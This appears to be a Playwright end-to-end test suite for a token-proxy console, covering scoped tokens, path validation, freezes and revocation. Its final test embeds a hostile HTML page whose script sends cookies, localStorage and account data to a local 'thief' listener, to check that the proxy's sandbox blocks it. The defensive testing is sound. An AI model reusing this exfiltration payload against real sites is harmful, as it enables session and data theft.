import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { z } from 'zod'
import { api, expect, expectAccessible, type Page, scriptUpstream, signIn, test } from './support.ts'

const ticketsLink = (page: Page) => page.getByRole('heading', { level: 2 }).getByRole('link', { name: 'Tickets' })

/** Opens the project of the demo's ticket service, and links it first where nobody has. */
async function openProject(page: Page): Promise<void> {
  await page.goto('/t/globex/projects')
  const link = page.getByRole('button', { name: /^Link (project|your first project)$/ })
  await link.waitFor()
  if (await ticketsLink(page).isVisible()) {
    await ticketsLink(page).click()
    return page.waitForURL(/\/projects\/prj_[^/]+$/)
  }
  await link.click()
  const provider = page.getByLabel('Provider')
  const option = provider.locator('option', { hasText: 'Demo tickets' })
  await provider.selectOption(String(await option.getAttribute('value')))
  await page.getByRole('button', { name: /^Continue to/ }).click()
  await page.waitForURL((url) => url.hostname === '127.0.0.1')
  const person = page.getByRole('button', { name: 'owner@globex.test' })
  const allow = page.getByRole('button', { name: 'Allow' })
  await person.or(allow).first().waitFor()
  if (await person.isVisible()) await person.click()
  await allow.click()
  await page.waitForURL(/\/projects\/prj_[^/]+\?linked=1$/)
}

async function openForm(page: Page): Promise<void> {
  await openProject(page)
  await page.getByRole('link', { name: 'Issue token' }).first().click()
  await page.waitForURL(/\/issue$/)
}

async function noSidewaysScroll(page: Page): Promise<void> {
  await page.setViewportSize({ width: 390, height: 844 })
  await expectAccessible(page)
  expect(await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth)).toBeLessThanOrEqual(0)
  await page.setViewportSize({ width: 1280, height: 900 })
}

/** The value and the address that the dialog hands out, read as a person copies them. */
async function takeToken(page: Page): Promise<{ value: string; url: string }> {
  await page.getByRole('tab', { name: 'env' }).click()
  await page.getByRole('button', { name: 'Copy env' }).click()
  const text = await page.evaluate(() => navigator.clipboard.readText())
  const [, value = ''] = /^export API_TOKEN='(vk_px_.*)'$/m.exec(text) ?? []
  const [, url = ''] = /^export API_URL='(.*)'$/m.exec(text) ?? []
  return { value, url }
}

async function issueThrough(page: Page, purpose: string, access: RegExp): Promise<{ value: string; url: string }> {
  await page.getByLabel('Purpose').fill(purpose)
  await page.getByRole('radio', { name: /^Through Valetkey/ }).check()
  await page.getByRole('radio', { name: access }).check()
  await page.getByRole('button', { name: 'Issue token' }).click()
  await expect(page.getByRole('dialog')).toContainText('shown once')
  return takeToken(page)
}

const Problem = z.object({ code: z.string(), detail: z.string() })
const asker =
  ({ value, url }: { value: string; url: string }) =>
  (path: string, method = 'GET') =>
    fetch(url + path, { method, headers: { authorization: `Bearer ${value}` } })

test('a read-only token through Valetkey reads and does no more, its use is shown, and revoked it is dead at once', async ({
  page,
}) => {
  test.slow()
  await signIn(page, 'owner@globex.test')
  await openForm(page)
  await page.getByRole('radio', { name: /^Through Valetkey/ }).check()
  const rules = page.getByRole('group', { name: 'Access' })
  await expect(rules.getByRole('radio', { checked: true })).toHaveCount(0)
  await expect(page.getByText('choose what it may do')).toBeVisible()
  await expect(rules).toContainText('High risk')
  await expectAccessible(page)
  const token = await issueThrough(page, 'read tickets through Valetkey', /^Read only/)
  await expectAccessible(page)
  const ask = asker(token)

  expect((await ask('/tickets')).status).toBe(200)
  const refused = await ask('/tickets', 'POST')
  expect(refused.status).toBe(403)
  expect(Problem.parse(await refused.json())).toMatchObject({
    code: 'rule_refused',
    detail: expect.stringContaining('read only'),
  })
  await page.getByRole('button', { name: 'Done' }).click()
  await page.getByRole('link', { name: 'Open the token' }).click()
  await page.waitForURL(/\/tokens\/tok_/)
  const tokenPage = page.url()
  await expect(page.getByText('read only: GET and HEAD, on every path')).toBeVisible()
  await expect(page.getByText('not reported')).toHaveCount(0)
  // What is counted is told every few seconds.
  await expect(async () => {
    await page.reload()
    await expect(page.getByRole('img', { name: /^Bar chart: used on 1 of 14 days/ })).toBeVisible({ timeout: 1_000 })
  }).toPass()
  await page.getByText('By day', { exact: true }).click()
  await expect(page.getByRole('table', { name: 'Use by day' }).getByRole('row').nth(1)).toHaveText(/^\d+\s\w+110\sB/)
  await expectAccessible(page)
  await noSidewaysScroll(page)

  // A freeze is shown over its state, with the reason and the way to lift it.
  const project = /prj_\w+/.exec((await page.getByRole('link', { name: 'Tickets' }).getAttribute('href')) ?? '')?.[0]
  await api(page, 'POST', '/api/v1/tenants/globex/freezes', { kind: 'project', id: project, reason: 'incident 7' })
  await page.reload()
  await expect(page.getByRole('main').locator('[data-badge]').first()).toHaveText('frozen')
  await expect(page.getByText('Its project is frozen.')).toContainText('Reason: incident 7')
  await expectAccessible(page)
  await noSidewaysScroll(page)
  expect((await ask('/tickets')).status).toBe(409)
  await page.getByRole('link', { name: 'Tokens' }).first().click()
  await expect(page.getByRole('row', { name: /read tickets through Valetkey/ })).toContainText('frozen')
  await page.goBack()
  await page.getByRole('link', { name: 'Open the project' }).click()
  await page.getByRole('button', { name: 'Lift freeze…' }).click()
  await page.getByRole('alertdialog').getByRole('button', { name: 'Lift freeze' }).click()
  await expect(page.getByText('is lifted')).toBeVisible()
  // Not back: the page renews itself meanwhile, and may stay.
  await page.goto(tokenPage)
  await expect(page.getByRole('main').locator('[data-badge]').first()).toHaveText('live')

  await page.getByRole('button', { name: 'Revoke…' }).click()
  const question = page.getByRole('alertdialog')
  await expect(question).toContainText('It works only through Valetkey')
  await question.getByRole('button', { name: /^Revoke/ }).click()
  await expect(page.getByText('nothing upstream', { exact: true })).toBeVisible()
  await expect(page.getByText('Over: every request with it is refused.')).toBeVisible()
  const dead = await ask('/tickets')
  expect([dead.status, (await dead.json()).code]).toEqual([401, 'token_ended'])

  await page.getByRole('link', { name: 'Issue again' }).click()
  await page.waitForURL(/\?like=/)
  await expect(page.getByRole('radio', { name: /^Through Valetkey/ })).toBeChecked()
  await expect(page.getByRole('radio', { name: /^Read only/ })).toBeChecked()
  await openProject(page)
  await expect(page.getByRole('heading', { name: 'Use' })).toBeVisible()
  await expect(page.getByRole('img', { name: /^Bar chart/ })).toBeVisible()
  await noSidewaysScroll(page)
})

test('paths are judged while they are written, a common choice is filled in, and "Issue again" brings them back', async ({
  page,
}) => {
  test.slow()
  await signIn(page, 'owner@globex.test')
  await openForm(page)
  await page.getByLabel('Purpose').fill('two paths')
  await page.getByRole('radio', { name: /^Through Valetkey/ }).check()
  await page.getByRole('radio', { name: /^These paths/ }).check()
  const issue = page.getByRole('button', { name: 'Issue token' })
  const first = page.getByRole('group', { name: 'Path 1' })
  const path = first.getByRole('textbox')
  for (const [text, fault] of [
    ['tickets', 'Begin with “/”.'],
    ['/tickets?open=1', 'Leave out the query'],
    ['/tick*', '“*” stands for a whole segment'],
    ['/a/../b', 'Leave out “.” and “..”.'],
    ['/**/a', 'only at the end'],
    ['/a b', 'percent-encoded'],
  ] as const) {
    await path.fill(text)
    await expect(path).toHaveAccessibleDescription(new RegExp(fault.replaceAll(/[.*?“”]/g, '.')))
    await expect(issue).toBeDisabled()
  }
  await path.fill('/tickets')
  await expect(path).toHaveAccessibleDescription('Choose at least one method.')
  await first.getByRole('checkbox', { name: 'GET' }).check()
  await page.getByRole('button', { name: 'Add a path' }).click()
  await expect(issue).toBeEnabled()
  const second = page.getByRole('group', { name: 'Path 2' })
  await second.getByRole('textbox').fill('/tickets/*')
  await second.getByRole('checkbox', { name: 'any' }).check()
  await noSidewaysScroll(page)
  await issue.click()
  await expect(page.getByRole('dialog')).toContainText('shown once')
  const ask = asker(await takeToken(page))
  // It may change one ticket, and there is none of that name.
  expect([(await ask('/tickets')).status, (await ask('/tickets/none', 'DELETE')).status]).toEqual([200, 404])
  expect([(await ask('/me')).status, (await ask('/tickets', 'POST')).status]).toEqual([403, 403])
  await page.getByRole('button', { name: 'Done' }).click()
  await page.getByRole('link', { name: 'Open the token' }).click()
  await expect(page.getByText('* /tickets/*')).toBeVisible()
  await page.getByRole('link', { name: 'Issue again' }).click()
  await expect(page.getByRole('textbox', { name: 'Path 2' })).toHaveValue('/tickets/*')
  await expect(page.getByRole('group', { name: 'Path 2' }).getByRole('checkbox', { name: 'any' })).toBeChecked()
})

test('an upstream that does not answer does not hold up a token through Valetkey', async ({ page }) => {
  await signIn(page, 'owner@globex.test')
  await page.route('**/projects/*/scopes', () => undefined)
  await openForm(page)
  await expect(page.getByRole('status', { name: 'Loading the choices' })).toBeVisible()
  await issueThrough(page, 'not held up', /^Everything my connection can do/)
})

test('a page of a hostile upstream, opened in a browser at the proxy’s address, reaches nothing of the console', async ({
  page,
  complaints,
}) => {
  await signIn(page, 'owner@globex.test')
  await openForm(page)
  const { value, url } = await issueThrough(page, 'a hostile page', /^Read only/)
  await page.getByRole('button', { name: 'Done' }).click()
  // Whatever its script gets, it sends here; no answer of ours names this place.
  const heard: string[] = []
  const listener = createServer((request, response) => {
    heard.push(String(request.url))
    response.writeHead(204, { 'access-control-allow-origin': '*' }).end()
  })
  await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve))
  const thief = `http://127.0.0.1:${(listener.address() as AddressInfo).port}`
  const script = `
    document.title = 'ran'
    const send = (name, value) => fetch('${thief}/' + name + '?' + encodeURIComponent(value), { mode: 'no-cors' })
    send('ran', '')
    try { send('cookie', document.cookie) } catch {}
    try { localStorage.setItem('stolen', '1'); send('storage', JSON.stringify(localStorage)) } catch {}
    try { navigator.serviceWorker.register(location.href) } catch {}
    fetch('/api/v1/me', { credentials: 'include' }).then((answer) => answer.text()).then((text) => send('me', text))`
  const html = `<!doctype html><title>hostile</title><h1>A page of the upstream</h1><script>${script}</script>
    <img src="${thief}/image"><iframe src="/t/globex/tokens"></iframe>
    <form action="/api/auth/signout" method="post"><button>Go</button></form>
    <meta http-equiv="refresh" content="0; url=${thief}/refresh">`
  const headers = { 'content-type': 'text/html', 'set-cookie': 'stolen=1; Path=/', 'service-worker-allowed': '/' }
  const answers = [1, 2].map(() => ({ status: 200, headers, body: { kind: 'html', text: html } }))
  await scriptUpstream(page, 'globex', 'GET /tickets/api/tickets', ...answers)

  await page.route(`${url}/**`, (route) =>
    route.continue({ headers: { ...route.request().headers(), authorization: `Bearer ${value}` } }),
  )
  const answer = await page.goto(`${url}/tickets`)
  expect(await answer?.text()).toContain('A page of the upstream')
  await expect(page.getByRole('heading')).toHaveText('A page of the upstream')
  expect(answer?.headers()).toMatchObject({ 'content-security-policy': expect.stringMatching(/^sandbox;/) })
  expect(answer?.headers()['set-cookie']).toBeUndefined()
  await expect(page).toHaveTitle('hostile')
  // An origin of its own: no storage and no cookies, for a script that somebody else brings to run as well.
  const reached = await page.evaluate(async () => {
    const attempt = async (act: () => unknown) => {
      try {
        return `got ${JSON.stringify(await act())}`
      } catch (error) {
        return (error as Error).name
      }
    }
    return {
      origin: self.origin,
      cookie: await attempt(() => document.cookie),
      storage: await attempt(() => localStorage.length),
      worker: await attempt(() => navigator.serviceWorker.register(location.href)),
      me: await attempt(async () => (await fetch('/api/v1/me', { credentials: 'include' })).status),
    }
  })
  expect(reached.origin).toBe('null')
  for (const name of ['cookie', 'storage', 'worker', 'me'] as const) expect(reached[name], name).not.toMatch(/^got/)
  expect(heard).toEqual([])
  await page.goto('/t/globex/projects')
  expect(await page.evaluate(() => [localStorage.getItem('stolen'), document.cookie.includes('stolen')])).toEqual([
    null,
    false,
  ])
  expect(await page.evaluate(async () => (await navigator.serviceWorker.getRegistrations()).length)).toBe(0)
  expect(await api(page, 'GET', '/api/v1/me')).toMatchObject({ email: 'owner@globex.test' })
  listener.close()
  // The browser said what it kept from happening.
  expect(complaints.length).toBeGreaterThan(0)
  for (const complaint of complaints.splice(0)) expect(complaint).toMatch(/sandbox|Content Security Policy/i)
})
